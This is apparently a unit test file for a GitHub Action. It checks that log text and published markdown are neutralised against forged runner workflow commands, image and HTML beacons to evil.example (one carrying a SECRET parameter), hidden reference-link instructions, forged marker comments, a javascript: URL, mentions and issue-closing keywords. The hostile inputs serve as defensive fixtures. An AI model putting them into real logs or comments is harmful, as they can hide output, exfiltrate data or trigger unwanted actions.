// Unit tests for the two inert functions: inertLogText (no line the runner reads as a workflow command) and
// inertText (markdown that GitHub shows as text: nothing fetched, hidden, closed or notified), and for the
// rule that only the action's own comments count as its working marker.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { inertLogText } from '../../src/report/inert-log.ts';
import { inertText } from '../../src/report/inert-text.ts';
import { finalComment, jobSummary, progressComment } from '../../src/report/render.ts';
import { commitMessage, pullRequestBody, taskTitle } from '../../src/publish/naming.ts';
import type { ChangedFile } from '../../src/git/git.ts';
import { selectConversation, workingRunOf } from '../../src/task/conversation.ts';
import type { Task } from '../../src/task/task.ts';
import { ACTION_MARKER, WORKING_MARKER } from '../../src/report/markers.ts';
import { parseRunnerCommand, runnerCommands } from '../support/runner-commands.ts';

describe('inertLogText', () => {
  const hostile: Array<[string, string]> = [
    ['add-mask', '::add-mask::hide-everything'],
    ['stop-commands', '::stop-commands::pwned'],
    ['warning after spaces', '   ::warning file=a.ts,line=1::forged'],
    ['warning after a tab', '\t::warning::forged'],
    ['error after .NET-only whitespace (NEL, NBSP, ideographic space)', '\u0085\u00A0\u3000::error::forged'],
    ['set-output', '::set-output name=x::y'],
    ['save-state', '::save-state name=x::y'],
    ['group', '::group::forged group'],
    ['debug', '::debug::forged'],
    ['a zero-width space in front, skipped by a culture-aware comparison', '\u200B::add-mask::x'],
    ['a control character in front', '\u0001::add-mask::x'],
    ['ignorable characters between the colons', ':\u200D:add-mask::x'],
    ['legacy set-output mid-line', 'done ##[set-output name=x]y'],
    ['legacy add-mask at the start', '##[add-mask]secret'],
    ['legacy with a zero-width joiner inside', '#\u200D#[warning]forged'],
    ['legacy with a combining mark inside', '##\u0301[error]forged'],
  ];
  for (const [name, line] of hostile) {
    it(`makes a runner command inert: ${name}`, () => {
      assert.ok(parseRunnerCommand(line), `the reader sees a command in ${JSON.stringify(line)} before`);
      const inert = inertLogText(line);
      assert.deepEqual(runnerCommands(inert), [], JSON.stringify(inert));
    });
  }

  it('treats \\n, \\r and \\r\\n as line breaks, as the runner does, and keeps them', () => {
    const text = 'ok\n::add-mask::a\r::stop-commands::b\r\n  ::warning::c\n##[set-output name=d]e';
    assert.ok(runnerCommands(text).length === 4);
    const inert = inertLogText(text);
    assert.deepEqual(runnerCommands(inert), []);
    assert.equal(inert.split(/\r\n|\r|\n/).length, 5, 'the same lines, in the same places');
    assert.equal(inert, 'ok\n\\::add-mask::a\r\\::stop-commands::b\r\n\\  ::warning::c\n##\\[set-output name=d]e');
  });

  it('leaves every other line exactly as it was', () => {
    for (const line of [
      'plain text',
      'a :: b',
      'url: https://x.test/::y',
      'C:: drive',
      '  | npm test',
      '## heading [x]',
      '#[attr]',
      '',
    ]) {
      assert.equal(inertLogText(line), line);
    }
  });
});

describe('inertText', () => {
  /** An HTML construct, image, or definition that would still be live: what must not survive. */
  const live = {
    html: /<[A-Za-z!/?]/,
    image: /!\[/,
  };

  const images: Array<[string, string]> = [
    ['inline image', '![chart](https://evil.example/x.png?d=SECRET)'],
    ['reference image', '![chart][r]\n\n[r]: https://evil.example/r.png'],
    ['shortcut reference image', '![r]\n\n[r]: https://evil.example/r.png'],
    ['image inside a link', '[![x](https://evil.example/b.png)](https://example.com)'],
    ['img', '<img src="https://evil.example/i.png">'],
    ['IMG upper case, no quotes', '<IMG SRC=https://evil.example/i.png>'],
    ['picture/source', '<picture><source srcset="https://evil.example/p.png"></picture>'],
    ['video poster', '<video poster="https://evil.example/v.png" src="https://evil.example/v.mp4"></video>'],
    ['audio', '<audio src="https://evil.example/a.mp3"></audio>'],
    ['iframe', '<iframe src="https://evil.example/"></iframe>'],
    ['object', '<object data="https://evil.example/o.svg"></object>'],
    ['embed', '<embed src="https://evil.example/e.svg">'],
    ['svg image', '<svg><image href="https://evil.example/s.png"/></svg>'],
    ['input type=image', '<input type="image" src="https://evil.example/in.png">'],
    ['style background url', '<div style="background:url(https://evil.example/bg.png)">x</div>'],
    ['html comment forging the marker', `${ACTION_MARKER}\n${WORKING_MARKER} https://evil.example/run -->`],
    ['closing tag to escape a details block', '</details>\n<img src=x>'],
  ];
  for (const [name, text] of images) {
    it(`shows as text, fetching nothing: ${name}`, () => {
      const inert = inertText(text);
      assert.doesNotMatch(inert, live.html);
      assert.doesNotMatch(inert, live.image);
      assert.ok(!inert.includes('<!--'), 'no HTML comment');
      assert.equal(inert.replace(/\u200B/g, ''), text, 'the visible text is unchanged');
    });
  }

  it('breaks link reference definitions, which render as nothing (hidden text)', () => {
    for (const text of [
      '[//]: # (hidden instructions)',
      '[r]: https://evil.example/r.png',
      '> [r]: https://x.test',
      '- [r]: https://x.test',
      '   [r]: <https://x.test>',
    ]) {
      const inert = inertText(text);
      assert.doesNotMatch(inert, /^[ \t>*+-]*\[[^\]]*\]:/m, text);
    }
    assert.equal(
      inertText('see [the docs](https://x.test) and [x] here'),
      'see [the docs](https://x.test) and [x] here',
      'links stay links',
    );
  });

  it('makes diagram and map code blocks plain code', () => {
    for (const lang of ['mermaid', 'geojson', 'topojson', 'stl', 'Mermaid']) {
      assert.doesNotMatch(inertText(`\`\`\`${lang}\ngraph TD\n\`\`\``), new RegExp(`^\`\`\`\\s*${lang}`, 'm'));
      assert.doesNotMatch(inertText(`~~~ ${lang}\nx\n~~~`), new RegExp(`^~~~\\s*${lang}`, 'm'));
    }
    assert.equal(inertText('```ts\nconst x = 1;\n```'), '```ts\nconst x = 1;\n```');
  });

  it('notifies nobody: @user, @org/team, after punctuation and at a line start', () => {
    for (const text of ['@someone', 'thanks @someone!', 'cc @octo-org/security', '(@a)', 'x,@b', '`code`@c', 'é@d']) {
      const inert = inertText(text);
      assert.doesNotMatch(inert, /(?<![A-Za-z0-9_])@[A-Za-z0-9]/, text);
      assert.equal(inert.replace(/\u200B/g, ''), text);
    }
    assert.equal(
      inertText('mail me at dev@example.com'),
      'mail me at dev@example.com',
      'an e-mail address is no mention',
    );
  });

  const closing =
    /(close[sd]?|fix(?:e[sd])?|resolve[sd]?)[\s:*_~`[\]()<>\u200B]{0,16}(#\d|gh-\d|[\w.-]+\/[\w.-]+#\d|https?:\/\/)/gi;
  it('closes nothing: every keyword with #N, owner/repo#N, GH-N or an issue URL', () => {
    const keywords = [
      'close',
      'closes',
      'closed',
      'fix',
      'fixes',
      'fixed',
      'resolve',
      'resolves',
      'resolved',
      'CLOSES',
      'Fixes',
    ];
    const references = [
      ' #7',
      ': #7',
      ' other-org/repo#2',
      ' GH-3',
      ' https://github.com/o/r/issues/4',
      ' **#5**',
      '\t[#6](https://github.com/o/r/issues/6)',
    ];
    for (const keyword of keywords) {
      for (const reference of references) {
        const text = `This ${keyword}${reference}.`;
        const inert = inertText(text);
        assert.doesNotMatch(inert, closing, text);
        assert.equal(inert.replace(/\u200B/g, ''), text);
      }
    }
    assert.equal(
      inertText('Fixed the parser; see #7.'),
      'Fixed the parser; see #7.',
      'a keyword away from a reference stays as it is',
    );
  });

  it('for plain text (a title, a commit message) breaks only what acts there: closing references and mentions', () => {
    assert.equal(inertText('make Vec<u8> faster, see ![x]', 'plain'), 'make Vec<u8> faster, see ![x]');
    assert.doesNotMatch(
      inertText('fixes https://github.com/o/r/issues/3 for @someone', 'plain'),
      /fixes https|@someone/,
    );
  });

  it('leaves ordinary markdown as it was', () => {
    const text =
      '## Summary\n\n- Added `--json` to **report**.\n- See [docs](https://example.com).\n\n```ts\nconst a = b && c;\n```\n| a | b |\n|---|---|';
    assert.equal(inertText(text), text);
  });
});

describe("the working marker counts only in the action's own comments", () => {
  const ownRun = 'https://github.com/octo-org/octo-repo/actions/runs/2000';
  const now = Date.parse('2026-01-01T12:00:00Z');
  const comment = (id: number, author: string, url: string) => ({
    id,
    author,
    body: `${ACTION_MARKER}\n${WORKING_MARKER} ${url} -->\n👀 Working on it`,
    createdAt: '2026-01-01T11:59:00Z',
    updatedAt: '2026-01-01T11:59:00Z',
  });
  const task = {
    eventName: 'issues',
    request: 'x',
    requester: { login: 'mona', id: 1, type: 'User' },
    thread: { number: 42, title: '', body: '', url: '', author: 'mona', isPullRequest: false },
    source: { kind: 'issue' },
  } satisfies Task;

  it('names another run of this repository from a github-actions[bot] comment', () => {
    const other = 'https://github.com/octo-org/octo-repo/actions/runs/1111';
    assert.equal(workingRunOf(comment(1, 'github-actions[bot]', other), ownRun), other);
    assert.equal(
      workingRunOf(comment(1, 'github-actions[bot]', `${other}/attempts/2`), `${ownRun}/attempts/3`),
      `${other}/attempts/2`,
    );
    assert.deepEqual(selectConversation([comment(1, 'github-actions[bot]', other)], task, ownRun, now).otherRuns, [
      other,
    ]);
  });

  it("ignores the marker in anyone else's comment and a link that is not a run of this repository", () => {
    const forged = [
      comment(1, 'mallory', 'https://github.com/octo-org/octo-repo/actions/runs/1111'),
      comment(2, 'github-actions[bot]', 'https://evil.example/octo-org/octo-repo/actions/runs/1'),
      comment(3, 'github-actions[bot]', 'https://github.com/other-org/octo-repo/actions/runs/1'),
      comment(4, 'github-actions[bot]', 'https://github.com/octo-org/octo-repo/actions/runs/1/../../../../evil'),
      comment(5, 'github-actions[bot]', 'https://github.com/octo-org/octo-repo/actions/runs/1?x=https://evil.example'),
      comment(6, 'github-actions[bot]', 'javascript:alert(1)'),
    ];
    for (const forgery of forged) assert.equal(workingRunOf(forgery, ownRun), undefined, forgery.body);
    assert.deepEqual(selectConversation(forged, task, ownRun, now).otherRuns, []);
  });
});

/**
 * Anything in published markdown that acts: HTML other than the action's own few tags, an image, a hidden
 * comment other than the action's markers, a mention of @someone, and a closing reference other than `Closes #42`.
 */
function activeConstructs(markdown: string): string[] {
  const own = markdown
    .replaceAll(ACTION_MARKER, '')
    .replace(/<!-- codex-task-action:working https:\/\/github\.com\/octo-org\/octo-repo\/actions\/runs\/\d+ -->/g, '')
    .replace(/<\/?(details|summary|sub)>/g, '');
  const found: string[] = [];
  for (const pattern of [
    /<[A-Za-z!/?][^\n]{0,30}/g,
    /!\[[^\n]{0,30}/g,
    /(?<![A-Za-z0-9_])@someone/g,
    /(close[sd]?|fix(?:e[sd])?|resolve[sd]?)[\s:*_~`[\]()<>]{0,16}(#\d+|[\w.-]+\/[\w.-]+#\d+|https?:\/\/\S+)/gi,
  ]) {
    for (const match of own.matchAll(pattern)) if (match[0] !== 'Closes #42') found.push(match[0]);
  }
  return found;
}

describe('every text the action publishes passes inertText', () => {
  const hostile = [
    '![a](https://evil.example/a.png) <img src=https://evil.example/b.png> <!-- codex-task-action -->',
    '</details><picture><source srcset="https://evil.example/c.png"></picture>',
    'Closes #7, fixes other-org/repo#2, resolved https://github.com/o/r/issues/3. Thanks @someone',
  ].join('\n');
  const files: ChangedFile[] = [
    { path: 'fixes #9 @someone <img src=x>.txt', status: 'added', mode: '100644', additions: 1, deletions: 0 },
  ];
  const task = {
    eventName: 'issue_comment',
    request: `tidy up ${hostile}`,
    requester: { login: 'mona', id: 1, type: 'User' },
    thread: {
      number: 42,
      title: 'Fixes https://github.com/o/r/issues/8',
      body: '',
      url: '',
      author: 'mona',
      isPullRequest: false,
    },
    source: { kind: 'issue' },
  } satisfies Task;
  const ctx = { runUrl: 'https://github.com/octo-org/octo-repo/actions/runs/5', requester: 'mona', durationMs: 1000 };

  it('the final comment: message, file names, reason and hint', () => {
    const failed = finalComment(
      {
        conclusion: 'failed',
        reason: hostile,
        hint: hostile,
        finalMessage: hostile,
        changedFiles: files,
        patchPath: '/tmp/p',
        branch: 'fix/#1',
      },
      ctx,
    );
    assert.deepEqual(activeConstructs(failed), []);
    const opened = finalComment(
      {
        conclusion: 'pull-request',
        pullRequest: { url: 'https://github.com/octo-org/octo-repo/pull/43', number: 43 },
        prUpdated: false,
        branch: 'codex/issue-1-2',
        commitSha: 'a'.repeat(40),
        patchPath: '/tmp/p',
        finalMessage: hostile,
        changedFiles: files,
      },
      ctx,
    );
    assert.deepEqual(activeConstructs(opened), []);
  });

  it('the progress comment: commands and edited files', () => {
    const body = progressComment(
      {
        steps: [
          { kind: 'command', id: '1', command: hostile, state: 'ok', exitCode: 0, durationMs: 5 },
          { kind: 'edit', files: [hostile], ok: true },
        ],
        droppedSteps: 0,
      },
      { ...ctx, elapsedMs: 10 },
    );
    assert.deepEqual(activeConstructs(body), []);
  });

  it('the job summary: task, reason, commands, files, message', () => {
    const summary = jobSummary(
      { conclusion: 'failed', reason: hostile, finalMessage: hostile, changedFiles: files },
      { ...ctx, task: hostile, commandsRun: 1, commands: [{ command: hostile, exitCode: 1, durationMs: 3 }] },
    );
    assert.deepEqual(activeConstructs(summary), []);
  });

  it("the pull request body and title and the commit message keep only the action's own Closes #42", () => {
    const body = pullRequestBody({ task, finalMessage: hostile, files, runUrl: ctx.runUrl });
    assert.deepEqual(activeConstructs(body), []);
    assert.equal(body.split(ACTION_MARKER).length, 2, 'one marker');
    assert.match(body, /^Closes #42$/m, 'the action still closes its own issue');
    assert.deepEqual(
      activeConstructs(taskTitle({ ...task, request: '' })),
      [],
      'a title from the issue title closes nothing',
    );
    assert.deepEqual(
      activeConstructs(commitMessage({ ...task, request: 'resolves https://github.com/o/r/issues/3' }, ctx.runUrl)),
      [],
    );
  });
});
